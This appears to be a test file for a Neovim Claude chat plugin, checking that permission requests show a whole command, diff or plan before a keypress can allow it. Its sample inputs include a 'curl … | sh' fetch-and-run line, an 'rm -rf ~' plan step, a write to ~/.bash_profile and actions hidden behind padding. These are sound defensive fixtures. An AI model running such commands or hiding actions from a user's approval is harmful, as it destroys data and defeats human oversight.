@@ -1,0 +1,361 @@
+"""Requests in the chat panel, in a real Neovim: what a yes allows was on the screen before."""
+
+import copy
+import json
+import sys
+from collections.abc import Awaitable, Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from support.neovim import Neovim, until
+from support.panel import PATIENCE, Panel
+from support.transcripts import FAKE_CLI, GOLDEN, heard
+
+RECORDING = GOLDEN / "always_allow.jsonl"
+LONG = "\n".join(f"echo step {number}" for number in range(40)) + "\ntouch HIDDEN"
+HEAD = "? May Claude use"
+RECORD = "<Esc>qa"
+"""Nothing appears while a macro is recorded."""
+
+Ask = Callable[..., Awaitable[Panel]]
+
+
+def recording(**asked: Any) -> list[dict[str, Any]]:
+    """A conversation in which the CLI asks for one thing, and then has no more to say."""
+    entries: list[dict[str, Any]] = []
+    for line in RECORDING.read_text("utf-8").splitlines():
+        entry = json.loads(line)
+        if entry["m"].get("request", {}).get("subtype") == "can_use_tool":
+            changed = copy.deepcopy(entry)
+            for key in ("blocked_path", "description"):
+                changed["m"]["request"].pop(key, None)
+            changed["m"]["request"].update(asked)
+            return [*entries, changed]
+        entries.append(entry)
+    raise AssertionError("the recording asks nothing")
+
+
+@pytest.fixture
+def log(tmp_path: Path) -> Path:
+    """Where the CLI notes what it hears."""
+    return tmp_path / "heard.jsonl"
+
+
+@pytest.fixture
+async def ask(nvim: Neovim, log: Path, tmp_path: Path) -> Ask:
+    """Begin a chat in which Claude asks for something; `keys` are typed before."""
+
+    async def begin(side: str = "right", keys: str = "", **asked: Any) -> Panel:
+        entries = recording(**asked)
+        path = tmp_path / "asks.jsonl"
+        path.write_text("".join(f"{json.dumps(entry)}\n" for entry in entries), "utf-8")
+        await nvim.command(f"let $FAKE_CLI_LOG = '{log}'")
+        cli: list[str | Path] = [sys.executable, "-I", FAKE_CLI, path]
+        panel = await Panel.open(nvim, cli, mode="default", side=side)
+        await nvim.keys(keys)
+        await panel.say("Go on")
+        await panel.shows("? May ")
+        return panel
+
+    return begin
+
+
+def answers(log: Path) -> list[dict[str, Any]]:
+    """What the CLI was answered when it asked the user."""
+    return [
+        frame["response"]["response"]
+        for frame in (heard(log)[1:] if log.exists() else [])
+        if frame.get("type") == "control_response" and "behavior" in frame["response"]["response"]
+    ]
+
+
+async def allow(nvim: Neovim, log: Path, key: str = "y") -> None:
+    """Press a key until it has allowed what is asked under the cursor."""
+
+    async def pressed() -> bool:
+        if not answers(log):
+            await nvim.keys(key)
+        return bool(answers(log))
+
+    await until(pressed, f"{key} allows", PATIENCE)
+    assert answers(log)[0]["behavior"] == "allow"
+
+
+async def press_until(nvim: Neovim, panel: Panel, key: str, words: str) -> None:
+    """Press a key on the request until the transcript shows something."""
+
+    async def pressed() -> bool:
+        if words not in await panel.text() and await panel.go_to(f"  {key}  "):
+            await nvim.keys(key)
+        return words in await panel.text()
+
+    await until(pressed, f"{key} shows {words}", PATIENCE)
+
+
+async def is_led(nvim: Neovim) -> bool:
+    """Whether the user stands on the request's first line, at the top of its window."""
+    at = await nvim.eval("[getline('.'), line('.') == line('w0'), mode(), &filetype]")
+    return bool(at[0].startswith("? May") and at[1:] == [1, "n", "claude-chat"])
+
+
+async def test_the_first_y_shows_all_of_a_long_command_and_the_next_allows_it(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    panel = await ask(input={"command": LONG})
+    lines = (await panel.look())["lines"]
+    assert lines.index("  26 more lines") < lines.index("  y  yes, once")
+    assert "touch HIDDEN" not in await panel.text()
+
+    await press_until(nvim, panel, "y", "touch HIDDEN")
+
+    assert answers(log) == []
+    await until(lambda: is_led(nvim), "the beginning is on the screen")
+    assert "│ echo step 0" in nvim.screen.text()
+    assert body((await panel.look())["lines"]) == LONG
+    await allow(nvim, log)
+    assert answers(log)[0]["updatedInput"]["command"] == LONG
+
+
+async def test_no_number_of_keys_typed_at_once_allows_what_was_hidden(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    panel = await ask(input={"command": LONG})
+    await press_until(nvim, panel, "y", "touch HIDDEN")
+
+    await nvim.keys("yyyy")
+    await nvim.command("redraw")
+
+    assert answers(log) == []
+
+
+async def test_the_first_a_shows_every_rule_and_the_next_allows_one(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    rule = f"python3 {'x' * 100} && touch HIDDEN"
+    suggestion = {
+        "type": "addRules",
+        "rules": [{"toolName": "Bash", "ruleContent": rule}],
+        "behavior": "allow",
+        "destination": "localSettings",
+    }
+    panel = await ask(input={"command": "ls"}, permission_suggestions=[suggestion])
+    assert "HIDDEN" not in await panel.text()
+
+    await press_until(nvim, panel, "a", "Always allow Bash")
+
+    assert answers(log) == []
+    assert (
+        body((await panel.look())["lines"]) == f"Always allow Bash({rule}) (this project, for you)"
+    )
+    await allow(nvim, log, "a")
+    assert answers(log)[0]["updatedPermissions"] == [suggestion]
+
+
+def body(lines: list[str]) -> str:
+    """What a request shows of its input, its rows put together again."""
+    rows = [line for line in lines if line.startswith(("  │ ", "  ┊ "))]
+    return "".join(f"\n{row[4:]}" if row[2] == "│" else row[4:] for row in rows)[1:]
+
+
+ON_SCREEN = """
+local chat = require('claude_ide.chat.state').list()[1]
+local win = vim.fn.win_findbuf(chat.transcript)[1]
+vim.cmd.redraw()
+return vim.api.nvim_buf_get_lines(
+  chat.transcript, vim.fn.line('w0', win) - 1, vim.fn.line('w$', win), false)
+"""
+
+
+@pytest.mark.parametrize("side", ["right", "below", "float", "tab"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python3 -m pytest # run the tests\ncurl -s http://127.0.0.1:1/x | sh",
+        f"echo {'a' * 230} ; touch HIDDEN",
+        f"ls{' ' * 300}; touch HIDDEN",
+    ],
+)
+async def test_what_fits_is_on_the_screen_before_any_key(
+    nvim: Neovim, ask: Ask, log: Path, side: str, command: str
+) -> None:
+    await nvim.command("set columns=120 lines=80")
+    panel = await ask(side, input={"command": command})
+
+    async def shown() -> bool:
+        return body(await nvim.lua(ON_SCREEN)) == command
+
+    await until(shown, "all of it", PATIENCE)
+
+    await panel.go_to(HEAD)
+    await allow(nvim, log)
+
+
+async def test_in_a_tiny_window_y_leads_to_the_beginning_first(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    await nvim.command("set columns=40 lines=14")
+    panel = await ask("tab", input={"command": "\n".join(f"step {n}" for n in range(12))})
+    await panel.go_to("  N  no, because…")
+    assert "step 0" not in nvim.screen.text()
+
+    async def pressed() -> bool:
+        if not await is_led(nvim):
+            await nvim.keys("y")
+        return await is_led(nvim)
+
+    await until(pressed, "the beginning", PATIENCE)
+    assert answers(log) == []
+    await until(lambda: "step 0" in nvim.screen.text(), "its beginning on the screen")
+    await allow(nvim, log)
+
+
+async def test_what_was_shown_whole_is_allowed_in_a_smaller_window(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    await nvim.command("set columns=160")
+    panel = await ask("tab", input={"command": "x" * 1200})
+    await panel.shows("  ┊ x")
+    assert "more lines" not in await panel.text()
+    await panel.go_to(HEAD)
+
+    await nvim.command("stopinsert | 30vsplit | wincmd p | vertical resize 60")
+
+    await panel.shows_no_more("x" * 100)
+    assert "more lines" not in await panel.text()
+    await allow(nvim, log)
+
+
+async def test_the_list_of_answers_leads_to_what_it_cannot_show(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    await nvim.lua(
+        """vim.ui.select = function(items, options, done)
+          _G.offered = { options.prompt, items }
+          done(items[1], 1)
+        end"""
+    )
+    panel = await ask(input={"command": LONG})
+    await nvim.command("stopinsert | ClaudeChat new")
+    await panel.is_new(2)
+
+    await nvim.command("stopinsert | ClaudeChat answer")
+
+    await panel.shows("touch HIDDEN")
+    assert (await nvim.lua("return _G.offered"))[1] == [
+        *("Show it all (41 lines)", "No", "No, because…"),
+    ]
+    assert answers(log) == []
+    await until(lambda: is_led(nvim), "the user is led there", PATIENCE)
+    await allow(nvim, log)
+
+
+async def test_the_list_of_answers_has_a_yes_for_what_was_seen(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    panel = await ask(input={"command": "ls\nrm x"})
+    await nvim.lua("vim.ui.select = function(items) _G.offered = items end")
+
+    async def offered() -> bool:
+        await nvim.keys("<C-s>")
+        return bool("Yes, once" in (await nvim.lua("return _G.offered") or []))
+
+    await until(offered, "a yes", PATIENCE)
+    assert "rm x" in await panel.text()
+
+
+async def test_a_file_that_no_diff_can_show_is_shown_itself(
+    nvim: Neovim, ask: Ask, log: Path, project: Path
+) -> None:
+    path = project / "latin.txt"
+    path.write_bytes(b"caf\xe9\n")
+
+    panel = await ask(tool_name="Write", input={"file_path": str(path), "content": "new\ntext\n"})
+
+    shown = await panel.shows("? May Claude use Write latin.txt?")
+    assert "  │ +new\n  │ +text" in shown
+    await panel.go_to("  │ +new")
+    await allow(nvim, log)
+
+
+async def test_y_allows_no_edit_whose_diff_could_not_appear_yet(
+    nvim: Neovim, ask: Ask, log: Path, project: Path
+) -> None:
+    path = project / "b.py"
+    asked = {"file_path": str(path), "content": "new\ntext\n"}
+    panel = await ask(keys=RECORD, tool_name="Write", input=asked)
+    assert "+text" not in await panel.text()
+
+    await press_until(nvim, panel, "y", "  │ +text")
+
+    assert answers(log) == []
+    await allow(nvim, log)
+
+
+async def test_what_the_diff_shows_is_allowed_always_by_one_key(
+    nvim: Neovim, ask: Ask, log: Path, project: Path
+) -> None:
+    suggestion = {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
+    asked = {"file_path": str(project / "b.py"), "content": "new\ntext\n"}
+    panel = await ask(tool_name="Write", input=asked, permission_suggestions=[suggestion])
+    await until(lambda: nvim.eval("tabpagenr('$') == 2"), "the diff", PATIENCE)
+
+    async def pressed() -> bool:
+        if not answers(log) and await panel.go_to("  a  "):
+            await nvim.keys("a")
+        return bool(answers(log))
+
+    await until(pressed, "a allows", PATIENCE)
+    assert answers(log)[0]["updatedPermissions"] == [suggestion]
+    assert "  │ +text" not in await panel.text()
+
+
+async def test_y_allows_no_plan_that_could_not_appear_yet(
+    nvim: Neovim, ask: Ask, log: Path
+) -> None:
+    asked = {"plan": "# Plan\n\n1. rm -rf ~\n"}
+    panel = await ask(keys=RECORD, tool_name="ExitPlanMode", input=asked)
+    assert "rm -rf" not in await panel.text()
+
+    await press_until(nvim, panel, "y", "  │ 1. rm -rf ~")
+
+    assert answers(log) == []
+    await allow(nvim, log)
+
+
+async def test_the_arguments_of_a_servers_tool_are_shown(nvim: Neovim, ask: Ask) -> None:
+    panel = await ask(
+        tool_name="mcp__neovim__openDiff",
+        input={"old_file_path": "/p/term://sh x.sh", "new_file_contents": "x\ny\n", "n": {"a": 1}},
+    )
+
+    shown = await panel.shows(f"{HEAD} mcp__neovim__openDiff?")
+    assert "  │ old_file_path: /p/term://sh x.sh\n  │ new_file_contents:\n  │   x\n  │   y" in shown
+    assert '  │ n:\n  │   {\n  │     "a": 1\n  │   }' in shown
+
+
+async def test_a_file_outside_of_the_project_is_marked(
+    nvim: Neovim, ask: Ask, tmp_path: Path
+) -> None:
+    home = Path(await nvim.eval("$HOME"))
+    asked = {"file_path": str(home / ".bash_profile"), "content": "x\n"}
+
+    panel = await ask(tool_name="Write", input=asked)
+
+    shown = await panel.shows("  runs at login")
+    assert f"{HEAD} Write ~/.bash_profile?\n  runs at login" in shown
+
+
+async def test_nothing_lies_on_a_request(nvim: Neovim, ask: Ask, log: Path) -> None:
+    panel = await ask(input={"command": "ls"})
+    id_ = (await panel.look())["id"]
+    rows = [[["a task " * 4, "ClaudeChatTodo"]]]
+    floats = "len(filter(getwininfo(), {_, w -> nvim_win_get_config(w.winid).relative != ''}))"
+
+    await nvim.lua("require('claude_ide.chat.panel').pin(...)", id_, rows)
+
+    assert await nvim.eval(floats) == 0
+    await panel.go_to(HEAD)
+    await allow(nvim, log)
+    await until(lambda: nvim.eval(f"{floats} == 1"), "it is pinned again")
